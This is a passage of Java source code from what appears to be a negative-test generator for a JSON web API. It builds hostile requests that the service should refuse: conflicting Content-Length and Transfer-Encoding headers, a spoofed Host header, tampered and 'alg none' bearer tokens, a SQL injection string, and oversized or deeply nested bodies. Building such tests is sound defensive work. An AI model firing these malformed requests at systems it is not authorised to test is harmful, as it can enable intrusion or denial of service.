                probe.headers.add(RawHttp.Header.of("Content-Length", Integer.toString(probe.body.length + 1)));
                probe.refuse("two Content-Length values");
                return routed(probe);
            });
            cases.add(n -> {
                Probe probe = base(n, op, "header Content-Length", "shorter than the body");
                probe.headers.add(RawHttp.Header.of("Content-Length", Integer.toString(Math.max(1, probe.body.length / 2))));
                probe.refuse("the body is cut in half: not JSON");
                return routed(probe);
            });
            cases.add(n -> {
                Probe probe = base(n, op, "header Transfer-Encoding", "chunked and Content-Length, body not chunked");
                probe.headers.add(RawHttp.Header.of("Transfer-Encoding", "chunked"));
                probe.headers.add(RawHttp.Header.of("Content-Length", Integer.toString(probe.body.length)));
                probe.refuse("a chunked body that is not chunked");
                return routed(probe);
            });
            cases.add(n -> {
                Probe probe = base(n, op, "header Transfer-Encoding", "chunked, properly");
                probe.headers.add(RawHttp.Header.of("Transfer-Encoding", "chunked"));
                byte[] body = probe.body;
                java.io.ByteArrayOutputStream chunked = new java.io.ByteArrayOutputStream();
                chunked.writeBytes((Integer.toHexString(body.length) + "\r\n").getBytes(StandardCharsets.ISO_8859_1));
                chunked.writeBytes(body);
                chunked.writeBytes("\r\n0\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1));
                probe.body = chunked.toByteArray();
                return routed(probe);
            });
        }
        return cases;
    }

    private Probe spoof(Probe probe, String header, String value) {
        probe.headers.add(RawHttp.Header.of(header, value));
        probe.spoofedHost = "evil.example";
        return routed(probe);
    }

    private Probe extra(Probe probe, String header, byte[] value) {
        probe.headers.add(RawHttp.Header.raw(header, value));
        return routed(probe);
    }

    private List<IntFunction<Probe>> authorizationCases(ApiDocument.Operation op) {
        List<IntFunction<Probe>> cases = new ArrayList<>();
        record AuthCase(String name, boolean refuse, java.util.function.Function<String, List<String>> values) {
        }
        List<AuthCase> variants = List.of(
                new AuthCase("scheme in lower case", false, t -> List.of("bearer " + t)),
                new AuthCase("two spaces after Bearer", false, t -> List.of("Bearer  " + t)),
                new AuthCase("signature tampered", true, t -> List.of("Bearer " + tamper(t))),
                new AuthCase("payload tampered", true, t -> List.of("Bearer " + tamperPayload(t))),
                new AuthCase("token without scheme", true, t -> List.of(t)),
                new AuthCase("Basic credentials", true, t -> List.of("Basic YWRtaW4ucmVnaXN0cnk6ZGVtbw==")),
                new AuthCase("empty Bearer", true, t -> List.of("Bearer ")),
                new AuthCase("huge token 20 KiB", true, t -> List.of("Bearer " + "A".repeat(20 * 1024))),
                new AuthCase("alg none", true, t -> List.of("Bearer " + algNone(t))),
                new AuthCase("two Authorization headers", true, t -> List.of("Bearer " + t, "Bearer not-a-token")),
                new AuthCase("injection", true, t -> List.of("Bearer ' OR '1'='1")));
        for (AuthCase variant : variants) {
            cases.add(n -> {
                Probe probe = base(n, op, "header Authorization", variant.name());
                routed(probe);
                List<Identity> principals = principals(op);
                probe.identity = principals.isEmpty() ? identities.get(0) : principals.get(Math.floorMod(n, principals.size()));
                probe.mustRefuse = false;
                probe.refuseBecause = null;
                authorized(probe);
                probe.auth = Probe.Auth.LITERAL;
                for (String value : variant.values().apply("{token}")) {
                    probe.authLiterals.add(value.getBytes(StandardCharsets.ISO_8859_1));
                }
                if (variant.refuse()) {
                    probe.refuse("not a valid bearer access token (" + variant.name() + ")");
                }
                return probe;
            });
        }
        return cases;
    }

    /** Markers resolved at send time, when the real token is known. */
    static String tamper(String token) {
        return token + "{tamper-signature}";
    }

    static String tamperPayload(String token) {
        return token + "{tamper-payload}";
    }

    static String algNone(String token) {
        return token + "{alg-none}";
    }

    private List<IntFunction<Probe>> methodCases(ApiDocument document, ApiDocument.Operation op) {
        Set<String> declared = new TreeSet<>();
        for (ApiDocument.Operation other : document.operations) {
            if (other.path().equals(op.path())) {
                declared.add(other.method().toUpperCase(Locale.ROOT));
            }
        }
        List<IntFunction<Probe>> cases = new ArrayList<>();
        for (String method : List.of("GET", "POST", "PUT", "DELETE", "PATCH")) {
            if (!declared.contains(method)) {
                cases.add(n -> {
                    Probe probe = base(n, op, "method", method + " (not declared on this path)");
                    probe.method = method;
                    probe.writeCollection = null;
                    probe.writeId = null;
                    probe.create = false;
                    probe.refuse("the path does not declare " + method + ": 405");
                    return routed(probe);
                });
            }
        }
        cases.add(n -> {
            Probe probe = base(n, op, "method", "TRACE");
            probe.method = "TRACE";
            probe.writeCollection = null;
            probe.writeId = null;
            probe.create = false;
            probe.refuse("TRACE is never served");
            return routed(probe);
        });
        return cases;
    }

    // ------------------------------------------------------------------ bodies

    private List<IntFunction<Probe>> bodyCases(ApiDocument.Operation op) {
        List<IntFunction<Probe>> cases = new ArrayList<>();
        ApiDocument document = documents.get(op.service().name());
        // The body as a whole.
        Map<String, byte[]> malformed = new LinkedHashMap<>();
        malformed.put("empty body", new byte[0]);
        malformed.put("'{'", bytes("{"));
        malformed.put("'}'", bytes("}"));
        malformed.put("'{\"a\":}'", bytes("{\"a\":}"));
        malformed.put("'nul'", bytes("nul"));
        malformed.put("single quotes", bytes("{'title':'x'}"));
        malformed.put("a comment", bytes("{/* hostile */}"));
        malformed.put("raw NUL byte", new byte[] { 0 });
        malformed.put("100 000 open brackets", bytes("[".repeat(100_000)));
        malformed.put("nesting 5 000 deep", bytes("{\"a\":".repeat(5000) + "1" + "}".repeat(5000)));
        malformed.put("array of 10 000 nested arrays", bytes("[".repeat(10_000) + "]".repeat(10_000)));
        malformed.put("JSON array", bytes("[]"));
        malformed.put("JSON string", bytes("\"text\""));
        malformed.put("JSON number", bytes("123"));
        malformed.put("JSON null", bytes("null"));
        malformed.put("JSON true", bytes("true"));
        malformed.put("invalid UTF-8 bytes", new byte[] { '{', '"', (byte) 0xFF, (byte) 0xFE, '"', ':', '1', '}' });
        malformed.put("UTF-16 with BOM", "{}".getBytes(StandardCharsets.UTF_16));
        for (Map.Entry<String, byte[]> m : malformed.entrySet()) {
            cases.add(n -> routed(rawBody(base(n, op, "body", "malformed: " + m.getKey()), m.getValue(), op)));
        }
        cases.add(n -> {
            Probe probe = base(n, op, "body", "trailing garbage");
            return routed(rawBody(probe, concat(probe.body, bytes(" hostile")), op));
        });
        cases.add(n -> {
            Probe probe = base(n, op, "body", "two JSON values");
            return routed(rawBody(probe, concat(probe.body, probe.body), op));
        });
        cases.add(n -> {
            Probe probe = base(n, op, "body", "trailing bracket");
            return routed(rawBody(probe, concat(probe.body, bytes("]")), op));
        });
        cases.add(n -> {
            Probe probe = base(n, op, "body", "trailing comma");
            byte[] body = probe.body;
            byte[] cut = java.util.Arrays.copyOf(body, body.length - 1);
            return routed(rawBody(probe, concat(cut, bytes(",}")), op));
        });
        cases.add(n -> {
            Probe probe = base(n, op, "body", "UTF-8 byte order mark first");
            probe.body = concat(new byte[] { (byte) 0xEF, (byte) 0xBB, (byte) 0xBF }, probe.body);
            return routed(probe);
        });
        cases.add(n -> {
            Probe probe = base(n, op, "body", "body wrapped in an array");
            return routed(json(probe, op, NODES.arrayNode().add(probe.json), "body"));
        });
        cases.add(n -> {
            Probe probe = base(n, op, "body", "unknown field");
            ObjectNode body = probe.json.deepCopy();
            body.put("hostileUnknown", "x");
            return routed(json(probe, op, body, "hostileUnknown"));
        });
        for (int size : new int[] { 900 * 1024, 3 * 1024 * 1024 }) {
            cases.add(n -> {
                Probe probe = base(n, op, "body", "huge JSON " + (size / 1024) + " KiB (unknown field)");
                ObjectNode body = probe.json.deepCopy();
                body.put("hostilePadding", "p".repeat(size));
                return routed(json(probe, op, body, null));
            });
        }
        cases.add(n -> {
            Probe probe = base(n, op, "body", "huge JSON: 200 000 unknown fields");
            StringBuilder text = new StringBuilder("{");
            for (int i = 0; i < 200_000; i++) {
                text.append(i == 0 ? "" : ",").append("\"f").append(i).append("\":1");
            }
            return routed(rawBody(probe, bytes(text.append('}').toString()), op));
        });
        // Content types.
        Map<String, Boolean> types = new LinkedHashMap<>();
        types.put("text/plain", true);
        types.put("application/xml", true);
        types.put("application/x-www-form-urlencoded", true);
        types.put("multipart/form-data; boundary=hostile", true);
        types.put("application/vnd.hostile+json", true);
        types.put("application/json; charset=ISO-8859-1", false);
        types.put("application/json; charset=UTF-16", false);
        types.put("APPLICATION/JSON", false);
        types.put("application/json;;;", false);
        types.put("application/jsonx", true);
        types.put("", true);
        for (Map.Entry<String, Boolean> type : types.entrySet()) {
            cases.add(n -> {
                Probe probe = base(n, op, "header Content-Type", type.getKey().isEmpty() ? "empty" : type.getKey());
                probe.headers.removeIf(h -> h.nameText().equals("Content-Type"));
                probe.headers.add(RawHttp.Header.of("Content-Type", type.getKey()));
                if (type.getKey().contains("ISO-8859-1")) {
                    probe.body = new String(probe.body, StandardCharsets.UTF_8).getBytes(StandardCharsets.ISO_8859_1);
                }
                if (type.getValue()) {
                    probe.refuse("the body is not application/json: 415 (conventions)");
                }
                return routed(probe);
            });
        }
        cases.add(n -> {
            Probe probe = base(n, op, "header Content-Type", "missing");
            probe.headers.removeIf(h -> h.nameText().equals("Content-Type"));
            probe.refuse("the body is not declared application/json: 415 (conventions)");
            return routed(probe);
        });
        // Duplicate keys, for each top-level field of the base.
        JsonNode sample = baseBody(op, 0);
        for (Iterator<String> names = sample.fieldNames(); names.hasNext();) {
            String name = names.next();
            cases.add(n -> {
                Probe probe = base(n, op, "body " + name, "duplicate key");
                JsonNode current = Bodies.get(probe.json, List.of(name));
                byte[] second = current != null && current.isTextual() ? bytes("1") : bytes("\"hostile\"");
                return routed(rawBody(probe, Bodies.duplicate(probe.json, List.of(name), second), op));
            });
        }
        // Reversed date pairs.
        for (List<List<Object>> pair : datePairs(document, op.bodySchema(), new ArrayList<>(), 0)) {
            cases.add(n -> {
                Probe probe = base(n, op, "body " + Bodies.show(pair.get(0)) + "," + Bodies.show(pair.get(1)), "reversed dates");
                LocalDate today = LocalDate.parse(world.today);
                JsonNode body = Bodies.with(probe.json, pair.get(0), NODES.textNode(today.minusDays(10).toString()));
                body = Bodies.with(body, pair.get(1), NODES.textNode(today.minusDays(40).toString()));
                return routed(json(probe, op, body, null));
            });
        }
        // Every field, one at a time.
        boolean claims = world.isCreate(op) && document.resolve(op.bodySchema()).path("properties").has("hostCountry");
        for (Location location : locations(document, op.bodySchema(), sample, new ArrayList<>(), true, 0)) {
            boolean identifier = world.isCreate(op) && location.path.size() == 1 && Set.of("id", "code").contains(location.name);
            for (FieldValue value : fieldValues(document, location, identifier)) {
                String[] ownCountry = new String[1];
                cases.add(n -> {
                    Probe probe = base(n, op, "body " + Bodies.show(location.path), value.name);
                    JsonNode json = probe.json;
                    if (value.remove) {
                        return routed(json(probe, op, Bodies.without(json, location.path), Bodies.show(location.path)));
                    }
                    if (value.raw != null) {
                        return routed(rawBody(probe, Bodies.splice(json, location.path, value.raw), op, Bodies.show(location.path)));
                    }
                    json(probe, op, Bodies.with(json, location.path, value.json), Bodies.show(location.path));
                    if (claims && identifier && !probe.mustRefuse && (ownCountry[0] != null || ownCountries < MAX_OWN_COUNTRIES)) {
                        // A valid-looking new identifier gets a country of its own, so that it is really stored
                        // (and sent on to the other service) instead of meeting the shared country's conflict.
                        if (ownCountry[0] == null) {
                            ownCountry[0] = world.takeFreeCountry();
                            ownCountries++;
                        }
                        JsonNode own = Bodies.with(probe.json, List.of("hostCountry"), NODES.textNode(ownCountry[0]));
                        String id = own.path("id").asText("");
                        if (id.startsWith(world.createPostCountry + "-")) { // a post id starts with its host country
                            own = Bodies.with(own, List.of("id"), NODES.textNode(ownCountry[0] + id.substring(world.createPostCountry.length())));
                        }
                        probe.json = own;
                        probe.body = Bodies.bytes(own);
                    }
                    return routed(probe);
                });
            }
        }
        return cases;
    }

    /** At most this many mutated creates get a country of their own (the others meet the shared country's conflict). */
    private static final int MAX_OWN_COUNTRIES = 8;
    private int ownCountries;

    /** Sets a JSON body and decides, from the schema, whether it must be refused and what a 400 must name. */
    private Probe json(Probe probe, ApiDocument.Operation op, JsonNode body, String target) {
        probe.json = body;
        probe.body = Bodies.bytes(body);
        judge(probe, op, body, target);
        return probe;
    }

    private Probe rawBody(Probe probe, byte[] bytes, ApiDocument.Operation op) {
        return rawBody(probe, bytes, op, null);
    }

    private Probe rawBody(Probe probe, byte[] bytes, ApiDocument.Operation op, String target) {
        probe.body = bytes;
        JsonNode parsed;
        try {
            parsed = STRICT.readTree(bytes);
            if (parsed == null || parsed.isMissingNode()) {
                throw new java.io.IOException("empty");
            }
        } catch (java.io.IOException | RuntimeException e) {
            probe.json = null;
            probe.refuse("not one well-formed JSON value (" + firstLine(e.getMessage()) + ")");
            return probe;
        }
        probe.json = parsed;
        judge(probe, op, parsed, target);
        return probe;
    }

    private void judge(Probe probe, ApiDocument.Operation op, JsonNode body, String target) {
        String violation = checks.get(op.service().name()).violation(op.bodySchema(), body, "");
        if (violation != null) {
            probe.refuse("the document's schema: " + violation);
            if (target != null && violation.startsWith(target)) {
                probe.namedField = target;
            } else if (target != null && related(violation.substring(0, Math.max(0, violation.indexOf(':'))), target)) {
                probe.namedField = target;
            }
        }
    }

    /** Two field paths name the same place when one is the other or lies inside it. */
    static boolean related(String a, String b) {
        if (a.isEmpty() || b.isEmpty()) {
            return false;
        }
        return a.equals(b) || a.startsWith(b + ".") || a.startsWith(b + "[") || b.startsWith(a + ".") || b.startsWith(a + "[");
    }

    /** A field of a body schema to mutate: its path, schema and whether its object requires it. */
    record Location(List<Object> path, JsonNode schema, boolean required, JsonNode current, String name) {
    }

    private List<Location> locations(ApiDocument document, JsonNode schemaNode, JsonNode current, List<Object> path, boolean required,
            int depth) {
        List<Location> out = new ArrayList<>();
        JsonNode schema = document.resolve(schemaNode);
        if (depth > 5) {
            return out;
        }
        String type = schema.path("type").asText(schema.has("properties") ? "object" : "");
        if (!path.isEmpty()) {
            out.add(new Location(List.copyOf(path), schema, required, current, String.valueOf(path.get(path.size() - 1))));
        }
        if (type.equals("object")) {
            Set<String> requiredNames = new TreeSet<>();
            schema.path("required").forEach(r -> requiredNames.add(r.asText()));
            for (Iterator<Map.Entry<String, JsonNode>> it = schema.path("properties").fields(); it.hasNext();) {
                Map.Entry<String, JsonNode> property = it.next();
                List<Object> child = new ArrayList<>(path);
                child.add(property.getKey());
                out.addAll(locations(document, property.getValue(), current == null ? null : current.get(property.getKey()), child,
                        requiredNames.contains(property.getKey()), depth + 1));
            }
        } else if (type.equals("array") && !path.isEmpty()) {
            List<Object> child = new ArrayList<>(path);
            child.add(0);
            out.addAll(locations(document, schema.path("items"), current == null ? null : current.get(0), child, false, depth + 1));
        }
        return out;
    }

    private List<List<List<Object>>> datePairs(ApiDocument document, JsonNode schemaNode, List<Object> path, int depth) {
        List<List<List<Object>>> pairs = new ArrayList<>();
        JsonNode schema = document.resolve(schemaNode);
        if (depth > 4) {
            return pairs;
        }
        List<String> dates = new ArrayList<>();
        for (Iterator<Map.Entry<String, JsonNode>> it = schema.path("properties").fields(); it.hasNext();) {
            Map.Entry<String, JsonNode> property = it.next();
            JsonNode p = document.resolve(property.getValue());
            if (p.path("format").asText("").equals("date")) {
                dates.add(property.getKey());
            } else if (p.path("type").asText("").equals("object")) {
                List<Object> child = new ArrayList<>(path);
                child.add(property.getKey());
                pairs.addAll(datePairs(document, p, child, depth + 1));
            }
        }
        for (String start : dates) {
            for (String end : dates) {
                boolean pair = (start.endsWith("Start") && end.equals(start.substring(0, start.length() - 5) + "End"))
                        || (start.equals("startsOn") && end.equals("endsOn")) || (start.equals("openedOn") && end.equals("closedOn"))
                        || (start.equals("from") && end.equals("to"));
                if (pair) {
                    List<Object> a = new ArrayList<>(path);
                    a.add(start);
                    List<Object> b = new ArrayList<>(path);
                    b.add(end);
                    pairs.add(List.of(a, b));
                }
            }
        }
        return pairs;
    }

    /** A mutated value for one field: JSON to set, raw bytes to splice in, or removal. */
    record FieldValue(String name, JsonNode json, byte[] raw, boolean remove) {
        static FieldValue set(String name, JsonNode json) {
            return new FieldValue(name, json, null, false);
        }

        static FieldValue raw(String name, String raw) {
            return new FieldValue(name, null, bytes(raw), false);
        }

        static FieldValue raw(String name, byte[] raw) {
            return new FieldValue(name, null, raw, false);
        }
    }

    private List<FieldValue> fieldValues(ApiDocument document, Location location, boolean identifier) {
        List<FieldValue> values = new ArrayList<>();
        JsonNode schema = location.schema;
        String type = schema.path("type").asText(schema.has("properties") ? "object" : schema.has("enum") ? "string" : "");
        if (location.current != null) {
            values.add(new FieldValue("missing", null, null, true));
        }
        values.add(FieldValue.set("null", NODES.nullNode()));
        switch (type) {
            case "string" -> stringFieldValues(schema, location, values, identifier);
            case "integer", "number" -> numberFieldValues(schema, type, values);
            case "array" -> arrayFieldValues(document, schema, location, values);
            case "object" -> objectFieldValues(location, values);
            case "boolean" -> {
                values.add(FieldValue.set("wrong type: string \"true\"", NODES.textNode("true")));
                values.add(FieldValue.set("wrong type: number 1", NODES.numberNode(1)));
            }
            default -> {
            }
        }
        return values;
    }

    /** Texts for a string field; an identifier of a new resource keeps its start (the e2e marker) before any injection. */
    private void stringFieldValues(JsonNode schema, Location location, List<FieldValue> values, boolean identifier) {
        String current = location.current != null && location.current.isTextual() ? location.current.asText() : "x";
        values.add(FieldValue.set("wrong type: number", NODES.numberNode(123)));
        values.add(FieldValue.set("wrong type: boolean", NODES.booleanNode(true)));
        values.add(FieldValue.set("wrong type: object", NODES.objectNode().put("value", current)));
        values.add(FieldValue.set("wrong type: array", NODES.arrayNode().add(current)));
        values.add(FieldValue.set("wrong type: decimal", NODES.numberNode(1.5)));
        values.add(FieldValue.set("empty", NODES.textNode("")));
        values.add(FieldValue.set("blank", NODES.textNode("   ")));
        if (schema.has("maxLength")) {
            int max = schema.get("maxLength").asInt();
            // An identifier is padded in capitals: ids such as SN-DAKAR allow nothing else.
            String filler = identifier ? "X" : "x";
            values.add(FieldValue.set("maxLength (" + max + ")", NODES.textNode(pad(current, max, filler))));
            values.add(FieldValue.set("maxLength + 1 (" + (max + 1) + ")", NODES.textNode(pad(current, max + 1, filler))));
        }
        values.add(FieldValue.set("huge 100 000 chars", NODES.textNode(pad(current, 100_000))));
        for (String c : CONTROLS) {
            values.add(FieldValue.set("control " + visible(c), NODES.textNode(current + c)));
        }
        values.add(FieldValue.raw("lone surrogate, escaped \\ud800", "\"" + current + "\\ud800\""));
        values.add(FieldValue.raw("lone low surrogate, escaped \\udc00", "\"\\udc00" + current + "\""));
        values.add(FieldValue.raw("lone surrogate as raw UTF-8 bytes (ED A0 80)",
                Bodies.rawString(concat(bytes(current), new byte[] { (byte) 0xED, (byte) 0xA0, (byte) 0x80 }))));
        values.add(FieldValue.raw("invalid UTF-8 byte FF", Bodies.rawString(concat(bytes(current), new byte[] { (byte) 0xFF }))));
        values.add(FieldValue.raw("raw control byte 01 inside the string", Bodies.rawString(new byte[] { 'a', 1, 'b' })));
        values.add(FieldValue.raw("unterminated string", "\"" + current));
        for (String u : UNICODE) {
            values.add(FieldValue.set("unicode " + visible(u), NODES.textNode(current + u)));
        }
        for (String injection : INJECTIONS) {
            values.add(FieldValue.set("injection " + visible(injection), NODES.textNode(identifier ? current + injection : injection)));
        }
        JsonNode enumeration = schema.path("enum");
        if (enumeration.isArray() && enumeration.size() > 0) {
            values.add(FieldValue.set("invalid enum", NODES.textNode("NOT_A_VALUE")));
            values.add(FieldValue.set("enum in lower case", NODES.textNode(enumeration.get(0).asText().toLowerCase(Locale.ROOT))));
            values.add(FieldValue.set("enum with spaces", NODES.textNode(" " + enumeration.get(0).asText() + " ")));
            values.add(FieldValue.set("enum ordinal 0", NODES.numberNode(0)));
            values.add(FieldValue.set("enum ordinal as text \"1\"", NODES.textNode("1")));
            for (JsonNode other : enumeration) {
                if (!other.equals(location.current)) {
                    values.add(FieldValue.set("other valid value " + other.asText(), other));
                }
            }
        }
        String format = schema.path("format").asText("");
        if (format.equals("date")) {
            for (String date : dateStrings()) {
                values.add(FieldValue.set("date '" + date + "'", NODES.textNode(date)));
            }
            values.add(FieldValue.raw("date as number 20261202", "20261202"));
            values.add(FieldValue.set("date as array [2026,12,2]", NODES.arrayNode().add(2026).add(12).add(2)));
            values.add(FieldValue.set("date as object", NODES.objectNode().put("year", 2026)));
        }
        if (format.equals("uuid")) {
            values.add(FieldValue.set("not a UUID", NODES.textNode("not-a-uuid")));
            values.add(FieldValue.set("nil UUID", NODES.textNode("00000000-0000-0000-0000-000000000000")));
            values.add(FieldValue.set("UUID in braces", NODES.textNode("{" + java.util.UUID.randomUUID() + "}")));
        }
        String name = location.name.toLowerCase(Locale.ROOT);
        if (name.contains("countr") || name.equals("coverage") || location.path.stream().anyMatch(
                s -> s instanceof String f && (f.toLowerCase(Locale.ROOT).contains("countr") || f.equals("coverage")))) {
            for (String code : List.of("XX", "ZZ", "sn", "FRA", "F", "S N", "FR", "AQ", "UK", "EU", "0")) {
                values.add(FieldValue.set("country '" + code + "'", NODES.textNode(code)));
            }
        }
    }

    private void numberFieldValues(JsonNode schema, String type, List<FieldValue> values) {
        values.add(FieldValue.set("wrong type: string \"12\"", NODES.textNode("12")));
        values.add(FieldValue.set("wrong type: string \"abc\"", NODES.textNode("abc")));
        values.add(FieldValue.set("wrong type: boolean", NODES.booleanNode(true)));
        values.add(FieldValue.set("wrong type: object", NODES.objectNode()));
        values.add(FieldValue.set("wrong type: array", NODES.arrayNode().add(1)));
        values.add(FieldValue.set("-1", NODES.numberNode(-1)));
        values.add(FieldValue.set("0", NODES.numberNode(0)));
        values.add(FieldValue.set("0.5", NODES.numberNode(0.5)));
        if (schema.has("minimum")) {
            values.add(FieldValue.raw("minimum", schema.get("minimum").asText()));
            values.add(FieldValue.raw("minimum - 1", schema.get("minimum").decimalValue().subtract(java.math.BigDecimal.ONE).toPlainString()));
        }
        if (schema.has("maximum")) {
            values.add(FieldValue.raw("maximum", schema.get("maximum").decimalValue().toPlainString()));
            values.add(FieldValue.raw("maximum + 1", schema.get("maximum").decimalValue().add(java.math.BigDecimal.ONE).toPlainString()));
            values.add(FieldValue.raw("maximum + 0.001", schema.get("maximum").decimalValue().add(new java.math.BigDecimal("0.001")).toPlainString()));
        }
        for (String raw : List.of("2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808",
                "123456789012345678901234567890", "1e308", "1e400", "-1e400", "1e-400", "-0.0", "1E2")) {
            values.add(FieldValue.raw(raw, raw));
        }
        for (String raw : List.of("NaN", "Infinity", "-Infinity", "01", "+1", ".5", "1.", "0x10", "1_000")) {
            values.add(FieldValue.raw("not JSON: " + raw, raw));
        }
        values.add(FieldValue.raw("a number of 100 000 digits", "9".repeat(100_000)));
    }

    private void arrayFieldValues(ApiDocument document, JsonNode schema, Location location, List<FieldValue> values) {
        JsonNode item = location.current != null && location.current.isArray() && location.current.size() > 0
                ? location.current.get(0) : fromSchema(document, schema.path("items"), location.name, 3);
        values.add(FieldValue.set("wrong type: string", NODES.textNode(item.isTextual() ? item.asText() : "x")));
        values.add(FieldValue.set("wrong type: object", NODES.objectNode()));
        values.add(FieldValue.set("wrong type: number", NODES.numberNode(1)));
        values.add(FieldValue.set("empty array", NODES.arrayNode()));
        values.add(FieldValue.set("[null]", NODES.arrayNode().addNull()));
        values.add(FieldValue.set("duplicate items", NODES.arrayNode().add(item).add(item)));
        values.add(FieldValue.set("nested array", NODES.arrayNode().add(NODES.arrayNode().add(item))));
        values.add(FieldValue.set("item of the wrong type", NODES.arrayNode().add(item.isNumber() ? NODES.textNode("x") : NODES.numberNode(1))));
        if (schema.has("maxItems")) {
            int max = schema.get("maxItems").asInt();
            ArrayNode many = NODES.arrayNode();
            for (int i = 0; i <= max; i++) {
                many.add(item);
            }
            values.add(FieldValue.set("maxItems + 1 (" + (max + 1) + ")", many));
        }
        ArrayNode huge = NODES.arrayNode();
        for (int i = 0; i < 100_000; i++) {
            huge.add(item);
        }
        values.add(FieldValue.set("huge array of 100 000 items", huge));
    }

    private void objectFieldValues(Location location, List<FieldValue> values) {
        values.add(FieldValue.set("wrong type: string", NODES.textNode("x")));
        values.add(FieldValue.set("wrong type: array", NODES.arrayNode()));
        values.add(FieldValue.set("wrong type: number", NODES.numberNode(1)));
        values.add(FieldValue.set("empty object", NODES.objectNode()));
        ObjectNode unknown = location.current != null && location.current.isObject() ? location.current.deepCopy() : NODES.objectNode();
        unknown.put("hostileUnknown", 1);
        values.add(FieldValue.set("unknown field inside", unknown));
        values.add(FieldValue.raw("nesting 2 000 deep", "{\"a\":".repeat(2000) + "1" + "}".repeat(2000)));
    }

    // ------------------------------------------------------------------ small helpers

    /** The current value padded (or a run of x) to exactly this length, keeping its start (ids keep their marker). */
    private static String pad(String current, int length) {
        return pad(current, length, "x");
    }

    private static String pad(String current, int length, String filler) {
        String start = current.length() > length ? current.substring(0, length) : current;
        return start + filler.repeat(length - start.length());
    }

    static byte[] bytes(String text) {
        return RawHttp.utf8(text);
    }

    static byte[] concat(byte[] a, byte[] b) {
        byte[] out = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }

    /** Percent-encoding of everything outside the unreserved set, lone surrogates as their raw UTF-8 bytes. */
    static String encode(String text) {
        StringBuilder out = new StringBuilder();
        for (byte b : RawHttp.utf8(text)) {
            int c = b & 0xFF;
            if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '-' || c == '.' || c == '_' || c == '~') {
                out.append((char) c);
            } else {
                out.append('%').append(String.format("%02X", c));
            }
        }
        return out.toString();
    }

    /** A string with its control characters shown as \\uXXXX, for names and reports. */
    static String visible(String text) {
        StringBuilder out = new StringBuilder();
        for (char c : text.toCharArray()) {
            if (c < 0x20 || c == 0x7f || (c >= 0x80 && c < 0xa0) || c == 0x2028 || c == 0x2029 || c == 0x202e || c == 0xfeff
                    || Character.isSurrogate(c)) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.toString();
    }

    static String abbreviate(String text) {
        return text.length() <= 40 ? text : text.substring(0, 20) + "…(" + text.length() + " chars)";
    }

    private static String firstLine(String message) {
        if (message == null) {
            return "";
        }
        int nl = message.indexOf('\n');
        String line = nl < 0 ? message : message.substring(0, nl);
        return line.length() > 80 ? line.substring(0, 80) + "…" : line;
    }
}
